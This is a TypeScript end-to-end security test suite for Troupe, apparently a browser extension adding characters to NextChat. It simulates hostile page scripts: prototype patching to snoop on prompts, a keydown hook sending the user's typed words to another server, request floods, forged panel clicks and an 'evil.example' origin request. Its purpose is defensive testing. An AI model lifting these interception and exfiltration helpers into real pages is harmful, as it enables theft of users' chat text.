/**
 * Troupe against a hostile page: what a script sharing the page with Troupe's content script (or
 * holding it, after a compromise) can get from the background, and what a page's own requests get.
 */
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { NC, chatBodyOf, echoReply, lastUserText, readSentByPage, startNewChat, startStage, startTestLlm, typeAndSend, waitForSettledChat, type Launched, type Stage, type TestLlm } from '../harness/index.ts';
import { activate, createCharacter, eventually, isUserTurn, openPanel, openSection, openWithCharacter, panelBody, panelToggle, readChatLog } from './troupe-page.ts';
import { stageSession } from './stage-session.ts';

let llm: TestLlm;
let stage: Stage;
let browser: Launched;
let page: Page;
stageSession((parts) => ({ llm, stage, browser, page } = parts));

/** Runs `expression` in Troupe's isolated content-script world of `page` (over the DevTools protocol). */
async function inContentScript(target: Page, expression: string): Promise<unknown> {
  const cdp = await browser.context.newCDPSession(target);
  const contexts: Array<{ id: number; origin: string; auxData?: { type?: string } ; name: string }> = [];
  cdp.on('Runtime.executionContextCreated', (event: { context: (typeof contexts)[number] }) => contexts.push(event.context));
  await cdp.send('Runtime.enable');
  const isolated = contexts.find((c) => c.auxData?.type === 'isolated' && c.name.length > 0);
  if (!isolated) throw new Error(`no isolated world among ${contexts.map((c) => `${c.name}/${c.auxData?.type}`).join(', ')}`);
  const result = await cdp.send('Runtime.evaluate', { expression, contextId: isolated.id, awaitPromise: true, returnByValue: true }) as { result: { value?: unknown }; exceptionDetails?: unknown };
  await cdp.detach();
  if (result.exceptionDetails) throw new Error(`evaluation failed: ${JSON.stringify(result.exceptionDetails)}`);
  return result.result.value;
}

const ask = (type: string, payload: unknown = {}) =>
  `chrome.runtime.sendMessage({ troupe: 1, type: ${JSON.stringify(type)}, payload: ${JSON.stringify(payload)} })`;

describe('a content script (the part of Troupe a web page can reach)', () => {
  it('cannot get the pairing secret, exports, relay or site changes from the background', async () => {
    await page.goto(stage.url);
    await waitForSettledChat(page);
    await openPanel(page);
    const answers = await inContentScript(page, `Promise.all([
      ${ask('sync.createLink')}, ${ask('sync.setRelay', { url: 'ws://127.0.0.2:1' })}, ${ask('library.export', { id: 'x', format: 'json' })},
      ${ask('origins.enable', { origin: 'http://evil.example' })}, ${ask('sillytavern.connect', { baseUrl: 'http://127.0.0.1:1' })},
    ])`) as Array<{ ok: boolean; error?: { code: string } }>;
    expect(answers.map((a) => a.error?.code)).toEqual(Array(5).fill('message/not-allowed'));
    // What the panel needs still works from there.
    expect(await inContentScript(page, ask('characters.list'))).toMatchObject({ ok: true });
  });

  it('still rewrites the chat as before for the user', async () => {
    await openWithCharacter(page, stage.url, 'Mira', 'A cartographer.');
    await page.locator('textarea#chat-input').fill('Hi');
    await page.keyboard.press('Enter');
    const request = await llm.waitForRequest((r) => chatBodyOf(r)?.stream === true);
    expect(chatBodyOf(request)!.messages[0]!.content).toContain("Mira's next reply");
  });
});

/**
 * Runs in the page after load, as a script with an XSS would: replaces the built-ins the interceptor
 * could touch with wrappers that record any call whose arguments or receiver carry `marker`.
 */
function patchPrototypes(marker: string): void {
  const leaks: string[] = [];
  (window as unknown as { __leaks: string[] }).__leaks = leaks;
  const stringify = JSON.stringify;
  const seen = (value: unknown): boolean => {
    try {
      if (typeof value === 'string') return value.includes(marker);
      if (typeof value === 'object' && value !== null) return (stringify(value) ?? '').includes(marker);
    } catch { /* cyclic or exotic: not a plain carrier */ }
    return false;
  };
  const apply = Reflect.apply;
  const push = Array.prototype.push;
  let inside = false;
  // The wrappers use nothing they wrap (a loop, captured apply/push), and do not watch their own work.
  const record = (label: string, receiver: unknown, args: ArrayLike<unknown>) => {
    if (inside) return;
    inside = true;
    try {
      let hit = seen(receiver);
      for (let i = 0; i < args.length && !hit; i++) hit = seen(args[i]);
      if (hit) apply(push, leaks, [label]);
    } finally {
      inside = false;
    }
  };
  const watch = (owner: Record<string, unknown>, name: string, label: string) => {
    const original = owner[name] as (...args: unknown[]) => unknown;
    owner[name] = function patched(this: unknown, ...args: unknown[]) {
      record(label, this, args);
      return apply(original, this, args);
    };
  };
  watch(MessagePort.prototype as unknown as Record<string, unknown>, 'postMessage', 'MessagePort.prototype.postMessage');
  watch(JSON as unknown as Record<string, unknown>, 'parse', 'JSON.parse');
  watch(JSON as unknown as Record<string, unknown>, 'stringify', 'JSON.stringify');
  // The private node's channel: attributes, events, and the element factory.
  for (const method of ['getAttribute', 'setAttribute', 'removeAttribute']) watch(Element.prototype as unknown as Record<string, unknown>, method, `Element.prototype.${method}`);
  watch(EventTarget.prototype as unknown as Record<string, unknown>, 'dispatchEvent', 'EventTarget.prototype.dispatchEvent');
  watch(EventTarget.prototype as unknown as Record<string, unknown>, 'addEventListener', 'EventTarget.prototype.addEventListener');
  watch(Document.prototype as unknown as Record<string, unknown>, 'createElement', 'Document.prototype.createElement');
  watch(Map.prototype as unknown as Record<string, unknown>, 'get', 'Map.prototype.get');
  watch(Map.prototype as unknown as Record<string, unknown>, 'set', 'Map.prototype.set');
  watch(Array as unknown as Record<string, unknown>, 'isArray', 'Array.isArray');
  for (const method of ['some', 'map', 'filter', 'findLast', 'every', 'forEach']) watch(Array.prototype as unknown as Record<string, unknown>, method, `Array.prototype.${method}`);
  watch(Function.prototype as unknown as Record<string, unknown>, 'call', 'Function.prototype.call');
  watch(Promise as unknown as Record<string, unknown>, 'resolve', 'Promise.resolve');
  watch(Function.prototype as unknown as Record<string, unknown>, 'apply', 'Function.prototype.apply');
  watch(window as unknown as Record<string, unknown>, 'fetch', 'window.fetch (re-wrapped by the page)');
  const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')!.get!;
  Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get() { const value = apply(data, this, []); record('MessageEvent.prototype.data', value, []); return value; } });
  Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { record('Object.prototype.then', this, []); return undefined; } });
  for (const name of ['Response', 'ReadableStream']) {
    const Original = (window as unknown as Record<string, new (...args: unknown[]) => object>)[name]!;
    (window as unknown as Record<string, unknown>)[name] = new Proxy(Original, { construct(target, args) { record(name, undefined, args); return Reflect.construct(target, args); } });
  }
}

describe('a script in NextChat\'s page that replaces built-ins after load', () => {
  it('sees none of the built prompt, and the character still speaks', async () => {
    const marker = 'SECRET-7f3a';
    await openWithCharacter(page, stage.url, 'Mira', `{{char}} hides the ${marker} map.`);
    await page.evaluate(patchPrototypes, marker);

    await page.locator('textarea#chat-input').click();
    await page.keyboard.type('Where is the map?');
    await page.keyboard.press('Enter');
    const request = await llm.waitForRequest((r) => chatBodyOf(r)?.stream === true);
    expect(request.rawBody).toContain(marker);
    await page.locator('[class*="chat_chat-message-status__"]').waitFor({ state: 'detached' });
    expect(await page.evaluate(() => (window as unknown as { __leaks: string[] }).__leaks)).toEqual([]);
  });
});

describe('a script in NextChat\'s page that relabels the sidebar', () => {
  it('gets no other chat\'s character: the request goes out as NextChat made it and the panel says why', async () => {
    await openWithCharacter(page, stage.url, 'Mira', 'A cartographer.');
    const first = await page.locator(NC.selectedSession).getAttribute('data-rfd-draggable-id');
    await startNewChat(page);
    await createCharacter(page, 'Bo', 'A retired sailor.');
    await activate(page, 'Bo');
    const second = await page.locator(NC.selectedSession).getAttribute('data-rfd-draggable-id');
    await page.locator(`${NC.sessionItem}[data-rfd-draggable-id="${first}"]`).click();
    await page.getByRole('button', { name: 'Deactivate Mira' }).waitFor();

    // The open chat is Mira's; the script makes the sidebar claim it is Bo's.
    await page.evaluate(([id]) => { document.querySelector('[class*="home_chat-item-selected__"]')!.setAttribute('data-rfd-draggable-id', id!); }, [second]);
    await typeAndSend(page, 'Who are you?');
    const request = await llm.waitForRequest(isUserTurn('Who are you?'));
    expect(request.rawBody).not.toContain('fictional chat');
    await expect.poll(() => page.getByRole('alert').textContent()).toContain('not the one NextChat has open');
  });
});

/** Fires `count` chat requests from the page itself, shaped as NextChat's own, for the user text `text`. */
function pageFlood([text, count]: readonly [string, number]): Promise<number> {
  const send = () => fetch('/api/openai/v1/chat/completions', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: text }] }),
  }).then((response) => response.text()).then((body) => body.length);
  return Promise.all(Array.from({ length: count }, send)).then((lengths) => lengths.reduce((a, b) => a + b, 0));
}

/**
 * Makes the person's next Enter in NextChat's input set off `count` requests of the page's own to
 * `url` first (a window capture listener runs before Troupe's and NextChat's), for `text`, or for
 * what the person typed when `text` is empty.
 */
function armRequestsOnEnter([url, text, count]: readonly [string, string, number]): void {
  const controller = new AbortController();
  window.addEventListener('keydown', (event) => {
    const input = event.target as HTMLTextAreaElement | null;
    if (event.key !== 'Enter' || input?.id !== 'chat-input') return;
    controller.abort();
    for (let i = 0; i < count; i++) {
      void fetch(url, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: text || input.value }] }),
      }).then((response) => response.text());
    }
  }, { capture: true, signal: controller.signal });
}

/** The person types `text` in NextChat's input and presses Enter. */
async function typeAndEnter(target: Page, text: string): Promise<void> {
  await target.locator(NC.input).click();
  await target.keyboard.type(text);
  await target.keyboard.press('Enter');
}

describe('a script in NextChat\'s page that sends the person\'s words elsewhere', () => {
  it('gets no character there and does not spoil the person\'s own turn', async () => {
    const evil = await startTestLlm();
    try {
      await openWithCharacter(page, stage.url, 'Mira', 'A cartographer.');
      await page.evaluate(armRequestsOnEnter, [`${evil.url}/v1/chat/completions`, '', 1] as const);
      await typeAndEnter(page, 'Meet me at the harbour');
      const stolen = await evil.waitForRequest(isUserTurn('Meet me at the harbour'));
      const own = await llm.waitForRequest(isUserTurn('Meet me at the harbour'));
      expect(stolen.rawBody).not.toContain('Mira');
      expect(own.rawBody).toContain("Mira's next reply");
      await expect.poll(() => panelBody(page).textContent()).toContain('Last request sent as Mira');
    } finally {
      await evil.close();
    }
  });
});

describe('a script in NextChat\'s page that floods replies', () => {
  it('gets no reply stored: only the person\'s own turns are rewritten and remembered, one each', async () => {
    const FLOOD = 30;
    const MEGABYTE = 'x'.repeat(1024 * 1024);
    await openWithCharacter(page, stage.url, 'Mira', 'A cartographer.');
    await typeAndSend(page, 'Tell me more');
    await llm.waitForRequest(isUserTurn('Tell me more'));
    await eventually(() => readChatLog(browser.serviceWorker!), (rows) => rows.length === 1);
    llm.setReply((request) => (lastUserText(request) === 'Tell me more' ? MEGABYTE : echoReply(chatBodyOf(request)!)));

    // 30 requests of the page's own, for text the chat shows (a fake Retry), each answered with 1 MB.
    expect(await page.evaluate(pageFlood, ['Tell me more', FLOOD] as const)).toBeGreaterThan(FLOOD * MEGABYTE.length);
    // Then it rides on the person's next turn: on their Enter (its listener runs first) it sends 30 more.
    await page.evaluate(armRequestsOnEnter, ['/api/openai/v1/chat/completions', 'Tell me more', FLOOD] as const);
    await typeAndEnter(page, 'And then?');
    await llm.waitForRequest(isUserTurn('And then?'));
    await eventually(() => Promise.resolve(llm.requests.filter(isUserTurn('Tell me more')).length), (n) => n >= 1 + 2 * FLOOD);
    await page.locator('[class*="chat_chat-message-status__"]').waitFor({ state: 'detached' });

    const rows = await eventually(() => readChatLog(browser.serviceWorker!), (r) => r.length >= 2);
    expect(rows.map((row) => row.userText)).toEqual(['Tell me more', 'And then?']);
    expect(rows.every((row) => row.replyText.length < 1000)).toBe(true);
    // The page's own 60 requests went out as it made them: no character in any.
    const pageMade = llm.requests.filter(isUserTurn('Tell me more')).slice(1);
    expect(pageMade).toHaveLength(2 * FLOOD);
    expect(pageMade.filter((request) => request.rawBody.includes('Mira'))).toEqual([]);
    await openSection(page, 'Active character');
    await expect.poll(() => panelBody(page).textContent()).toContain('2 replies remembered in this chat');

    // The person's Retry still gets the character, once.
    await page.locator(NC.botRow).last().getByText('Retry').click();
    await eventually(() => Promise.resolve(llm.requests.filter(isUserTurn('And then?'))), (found) => found.length === 2);
    expect(llm.requests.filter(isUserTurn('And then?')).map((request) => request.rawBody.includes("Mira's next reply"))).toEqual([true, true]);
  });
});

describe('a page script that operates the panel', () => {
  it('clicks and types in vain: only the person\'s own events act', async () => {
    await openWithCharacter(page, stage.url, 'Mira', 'A cartographer.', false);
    await openSection(page, 'New character');
    // The script reaches into the shadow root (open only in the e2e build: closed-panel.e2e.ts proves the
    // shipping one closed) and acts as a person would, with untrusted events: the second line of defence.
    await page.evaluate(() => {
      const root = document.querySelector('troupe-panel')!.shadowRoot!;
      const buttons = [...root.querySelectorAll('button')];
      buttons.find((b) => b.getAttribute('aria-label') === 'Activate Mira' || b.textContent === 'Activate')?.click();
      const name = root.querySelector<HTMLInputElement>('form[aria-label="New character"] input')!;
      name.value = 'Intruder';
      name.dispatchEvent(new Event('input', { bubbles: true }));
      root.querySelector<HTMLFormElement>('form[aria-label="New character"]')!.requestSubmit();
    });
    // A person's action after them goes through the same channel to the background: once it shows,
    // anything the script had set off would have shown too.
    await createCharacter(page, 'Bo', 'A retired sailor.');
    await expect(page.getByRole('button', { name: 'Activate Mira' }).count()).resolves.toBe(1);
    await expect(panelBody(page).getByText('Intruder').count()).resolves.toBe(0);
  });
});

describe('a NextChat site the person has not confirmed', () => {
  it('gets nothing from Troupe until the person says yes (a script cannot), is remembered, and another port asks again', async () => {
    await page.goto(stage.url);
    await waitForSettledChat(page);
    const ask = panelBody(page).getByRole('button', { name: 'Use Troupe here' });
    await ask.waitFor();
    await page.evaluate(() => { document.querySelector('troupe-panel')!.shadowRoot!.querySelector<HTMLButtonElement>('button.primary')!.click(); });
    // Unconfirmed, the interceptor was never told "ready": the page's request leaves exactly as made.
    await typeAndSend(page, 'Before saying yes');
    const before = await llm.waitForRequest(isUserTurn('Before saying yes'));
    expect((await readSentByPage(page)).map((s) => s.body)).toContain(before.rawBody);
    expect(await ask.count()).toBe(1);

    await ask.click();
    await ask.waitFor({ state: 'detached' });
    await page.reload();
    await waitForSettledChat(page);
    await panelToggle(page).click();
    await panelBody(page).waitFor();
    expect(await ask.count()).toBe(0);

    const other = await startStage({ llmUrl: llm.url });
    try {
      await page.goto(other.url);
      await waitForSettledChat(page);
      await ask.waitFor();
    } finally {
      await other.close();
    }
  });
});

